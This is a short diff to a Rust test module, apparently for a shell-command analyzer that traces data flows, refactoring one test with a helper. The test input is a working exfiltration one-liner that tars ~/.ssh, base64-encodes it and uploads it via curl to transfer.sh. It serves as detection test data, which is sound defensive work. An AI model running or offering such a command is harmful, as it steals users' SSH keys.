@@ -146,13 +146,12 @@ impl Analyzer {
 #[cfg(test)]
 mod tests {
     use crate::flow::shell::analyze;
-    use crate::flow::shell::test_util::s;
+    use crate::flow::shell::test_util::{facts_and_one, s};
 
     #[test]
     fn tar_base64_curl() {
-        let f = analyze("tar czf - ~/.ssh | base64 | curl -s -X PUT --data-binary @- https://transfer.sh/keys.b64");
-        assert_eq!(f.net.len(), 1);
-        let n = &f.net[0];
+        let (f, n) =
+            facts_and_one("tar czf - ~/.ssh | base64 | curl -s -X PUT --data-binary @- https://transfer.sh/keys.b64");
         assert_eq!(n.stdin_from, s(&["~/.ssh"]));
         assert!(n.reads_stdin);
         assert_eq!(n.hosts, s(&["transfer.sh"]));
